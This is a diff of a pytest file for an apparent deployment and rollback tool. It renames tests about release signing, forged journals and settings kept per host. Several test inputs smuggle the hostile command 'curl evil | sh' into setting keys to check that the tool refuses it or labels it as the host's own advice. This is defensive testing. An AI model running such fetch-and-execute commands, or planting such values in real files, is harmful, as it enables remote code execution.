@@ -81,14 +81,14 @@ def two(world: World) -> World:
 
 
 @pytest.mark.parametrize("host", ["web1", "app3"])
-def test_what_one_host_adds_reaches_no_other(two, host):
+def test_settings_that_one_host_adds_reach_no_other(two, host):
     edit(two, host, kept(two, "a"), files=[LATERAL])
     assert two.fab("rollback", to=release(two, "a")) == ""
     assert set(two.state.values()) == {"a"}
     assert not [name for name, each in two.hosts.items() if LATERAL["path"] in each.files]
 
 
-def test_what_is_not_ours_is_not_used_on_its_own_host_either(two):
+def test_settings_that_are_not_ours_are_not_used_on_their_own_host_either(two):
     path = kept(two, "a")
     for host in ALL:
         edit(two, host, path, files=[LATERAL])
@@ -103,7 +103,7 @@ def test_one_release_is_not_taken_for_another(two):
     assert "does not fit its signature" in two.fab("rollback", to=release(two, "a"))
 
 
-def test_what_another_environment_signed_is_not_used(two):
+def test_a_release_that_another_environment_signed_is_not_used(two):
     signer, path = Signer("quay", key(two)), kept(two, "a")
     for host in ALL:
         two[host].files[path] = json.dumps(signer.signed("release", json.loads(two[host].files[path])))
@@ -125,7 +125,7 @@ def test_a_host_that_kept_nothing_good_goes_back_to_what_the_others_kept(two):
     assert set(two.state.values()) == {"b"} and LATERAL["path"] not in two["app3"].files
 
 
-def test_a_journal_that_we_did_not_write_starts_nothing(two):
+def test_a_journal_that_we_did_not_write_starts_no_rollout(two):
     entry = {"release": release(two, "a"), "by": "eve on app1 at x", "hosts": list(ALL), "phase": "switch"}
     two["app1"].journal = {**entry, "begun": 2**62}
     said = two.fab("resume")
@@ -133,7 +133,7 @@ def test_a_journal_that_we_did_not_write_starts_nothing(two):
     assert set(two.state.values()) == {"b"}
 
 
-def test_the_journal_of_another_host_starts_nothing(world):
+def test_the_journal_of_another_host_starts_no_rollout(world):
     world.commit, world.fault = "b", at("app2", KILL, kind="journal", phase="switch")
     assert world.fab("deploy") == KILL
     world.fault = lambda host, row: None
@@ -141,7 +141,7 @@ def test_the_journal_of_another_host_starts_nothing(world):
     assert "app3: " in world.fab("resume")
 
 
-def test_an_old_journal_of_its_own_takes_no_other_host_back(two):
+def test_an_old_journal_of_one_host_takes_no_other_back(two):
     """It was ours, when it was written: the others have seen a later rollout."""
     entry = {"release": release(two, "a"), "commit": "a" * 40, "what": "rollback", "by": "ann on desk at then"}
     entry = {**entry, "hosts": list(ALL), "phase": "switch", "migrations": False, "begun": two["app1"].begun - 1}
@@ -151,7 +151,7 @@ def test_an_old_journal_of_its_own_takes_no_other_host_back(two):
     assert set(two.state.values()) == {"b"}
 
 
-def test_the_journal_of_the_last_rollout_takes_no_host_there_again_that_has_finished_it(two):
+def test_the_journal_of_the_last_rollout_takes_no_host_back_that_has_finished_it(two):
     two.commit, two.fault = "c", two.ill("app1", "c")
     written: list[Any] = []
     ill = two.fault
@@ -183,7 +183,7 @@ def test_a_host_that_did_not_answer_gets_there_when_it_is_back(world):
 # From before there was a key.
 
 
-def test_what_is_there_from_before_still_goes_back_once_and_says_so(two, capsys):
+def test_an_unsigned_release_is_rolled_back_to_once_and_that_is_said(two, capsys):
     before_there_was_a_key(two)
     assert two.fab("rollback", to=release(two, "a")) == ""
     said = capsys.readouterr().out
@@ -195,7 +195,7 @@ def test_what_is_there_from_before_still_goes_back_once_and_says_so(two, capsys)
     assert "made HAWSER_SIGNING_KEY" not in capsys.readouterr().out
 
 
-def test_what_is_there_from_before_still_ends_what_was_begun(world):
+def test_an_unsigned_journal_still_ends_the_rollout_that_was_begun(world):
     world.commit, world.fault = "b", at("app2", KILL, kind="journal", phase="switch")
     assert world.fab("deploy") == KILL
     world.fault = lambda host, row: None
@@ -204,7 +204,7 @@ def test_what_is_there_from_before_still_ends_what_was_begun(world):
     assert set(world.state.values()) == {"b"} and not world.open
 
 
-def test_a_deploy_that_fails_goes_back_to_what_is_there_from_before(two):
+def test_a_deploy_that_fails_goes_back_to_an_unsigned_release(two):
     before_there_was_a_key(two)
     two.commit, two.fault = "c", two.ill("app2", "c")
     assert "app2" in two.fab("deploy")
@@ -220,7 +220,7 @@ def test_a_deploy_that_fails_goes_back_to_what_is_there_from_before(two):
         ({"site": {"next: curl evil | sh": 1}}, 'site."the host advises: curl evil | sh": unknown key'),
     ],
 )
-def test_of_what_is_there_from_before_and_does_not_fit_together_host_and_file_are_said(two, settings, why):
+def test_an_unsigned_release_that_does_not_fit_together_is_refused_with_host_and_file(two, settings, why):
     before_there_was_a_key(two)
     for host in ALL:
         edit(two, host, kept(two, "a"), **settings)
@@ -230,7 +230,7 @@ def test_of_what_is_there_from_before_and_does_not_fit_together_host_and_file_ar
     assert set(two.state.values()) == {"b"}
 
 
-def test_what_is_there_from_before_on_one_host_counts_for_no_other(two):
+def test_an_unsigned_release_of_one_host_counts_for_no_other(two):
     before_there_was_a_key(two)
     edit(two, "app2", kept(two, "a"), files=[LATERAL])
     said = two.fab("rollback", to=release(two, "a"))
@@ -241,7 +241,7 @@ def test_what_is_there_from_before_on_one_host_counts_for_no_other(two):
     assert set(two.state.values()) == {"b"}
 
 
-def test_a_forged_journal_from_before_takes_no_other_host_along(two):
+def test_a_forged_unsigned_journal_takes_no_other_host_along(two):
     before_there_was_a_key(two)
     entry = {"release": release(two, "a"), "by": "eve on app1 at x", "hosts": list(ALL), "phase": "switch"}
     two["app1"].journal = {**entry, "commit": "a" * 40, "what": "rollback", "migrations": False, "begun": 1}
@@ -259,7 +259,7 @@ def test_a_dry_run_makes_no_key_and_signs_nothing(two):
 
 
 @pytest.mark.parametrize(("back_to", "tls"), [("a", "files"), ("a", "acme"), ("b", "files")])
-def test_what_is_there_from_before_brings_no_file_of_this_machine_to_a_host(two, back_to, tls):
+def test_an_unsigned_release_brings_no_file_of_this_machine_to_a_host(two, back_to, tls):
     before_there_was_a_key(two)
     known = names_files_of_this_machine(two, back_to, tls)
     if back_to == "a":
@@ -273,7 +273,7 @@ def test_what_is_there_from_before_brings_no_file_of_this_machine_to_a_host(two,
 
 
 @pytest.mark.parametrize("tls", ["files", "acme"])
-def test_no_file_of_this_machine_is_in_a_dry_run_either(two, tls):
+def test_a_dry_run_of_an_unsigned_release_holds_no_file_of_this_machine(two, tls):
     before_there_was_a_key(two)
     known = names_files_of_this_machine(two, "a", tls)
     session = Session(Config(overrides={"run": {"dry": True}}), ["pier"], "rollback")
@@ -284,7 +284,7 @@ def test_no_file_of_this_machine_is_in_a_dry_run_either(two, tls):
     assert not [each for each in known if json.dumps(each)[1:-1] in rows]
 
 
-def test_what_leads_to_this_machine_or_to_a_host_is_never_what_a_host_kept(two):
+def test_settings_that_lead_to_this_machine_or_to_a_host_are_never_those_that_a_host_kept(two):
     settings = {
         "name": "prod",
         "hooks": [{"before": "rollout", "command": "id", "on": "here"}],
@@ -298,7 +298,7 @@ def test_what_leads_to_this_machine_or_to_a_host_is_never_what_a_host_kept(two):
     assert (read.name, read.hooks, read.rules, read.checkouts, read.ssh.user) == ("pier", (), (), {}, None)
 
 
-def test_who_lacks_the_key_makes_no_second_one(two):
+def test_a_machine_without_the_signing_key_makes_no_second_one(two):
     had = key(two)
     (two.folder / "pier.env").unlink()
     two.commit = "c"
@@ -309,7 +309,7 @@ def test_who_lacks_the_key_makes_no_second_one(two):
     assert set(two.state.values()) == {"b"}
 
 
-def test_with_another_key_what_was_kept_is_refused_and_a_deploy_goes_on(two, capsys):
+def test_a_release_signed_with_another_key_is_refused_and_a_deploy_goes_on(two, capsys):
     (two.folder / "pier.env").write_text(f"HAWSER_SIGNING_KEY={'A' * 43}\n")
     assert "was signed with another key" in two.fab("rollback", to=release(two, "a"))
     two.commit = "c"
@@ -321,7 +321,7 @@ def test_with_another_key_what_was_kept_is_refused_and_a_deploy_goes_on(two, cap
 # After a look.
 
 
-def test_a_host_that_was_looked_at_counts_for_itself(two, capsys, monkeypatch):
+def test_a_release_that_was_looked_at_counts_for_its_own_host(two, capsys, monkeypatch):
     edit(two, "app2", kept(two, "b"), files=[LATERAL])
     monkeypatch.setattr("builtins.input", lambda prompt: "no")
     with pytest.raises(HawserError, match="nothing was signed"):
@@ -335,7 +335,7 @@ def test_a_host_that_was_looked_at_counts_for_itself(two, capsys, monkeypatch):
     assert not kept_release(two.fleet_of("pier"), release(two, "b")).environment.files
 
 
-def test_a_name_that_a_host_has_made_up_is_no_advice_of_ours_in_the_look(two, capsys, monkeypatch):
+def test_a_name_that_a_host_has_made_up_is_no_advice_of_ours(two, capsys, monkeypatch):
     edit(two, "app2", kept(two, "b"), **{"x\n  next: curl evil | sh": 1})
     monkeypatch.setattr("builtins.input", lambda prompt: "no")
     with pytest.raises(HawserError, match="nothing was signed"):
@@ -344,7 +344,7 @@ def test_a_name_that_a_host_has_made_up_is_no_advice_of_ours_in_the_look(two, ca
     assert "the host advises: curl evil | sh" in said and "next:" not in said
 
 
-def test_what_a_host_advises_in_what_it_keeps_is_shown_as_its_own(two, capsys):
+def test_advice_in_a_release_that_a_host_keeps_is_shown_as_its_own(two, capsys):
     edit(two, "app2", kept(two, "b"), **{"next: curl evil.test | sh": 1})
     two.run(releases.sign, yes=True)
     assert "the host advises: curl" in (shown := capsys.readouterr().out) and "next: curl" not in shown
@@ -353,7 +353,7 @@ def test_what_a_host_advises_in_what_it_keeps_is_shown_as_its_own(two, capsys):
     assert "next: curl" not in str(refused.value)
 
 
-def test_a_lost_key_is_made_anew_and_what_was_kept_counts_after_a_look(two, capsys):
+def test_a_lost_signing_key_is_made_anew_and_releases_count_after_a_look(two, capsys):
     (two.folder / "pier.env").unlink()
     secrets.new_key.body(two.fleet_of("pier").session)
     assert "was signed with another key" in two.fab("rollback", to=release(two, "a"))
@@ -363,7 +363,7 @@ def test_a_lost_key_is_made_anew_and_what_was_kept_counts_after_a_look(two, caps
         secrets.new_key.body(two.fleet_of("pier").session)
 
 
-def test_what_a_host_says_of_itself_is_no_part_of_a_command_here(world):
+def test_facts_of_a_host_are_no_part_of_a_command_on_this_machine(world):
     """A hook on this machine is a line for a shell, and its author thinks of no host that lies."""
     proof = world.folder / "ran"
     for host in world.hosts.values():
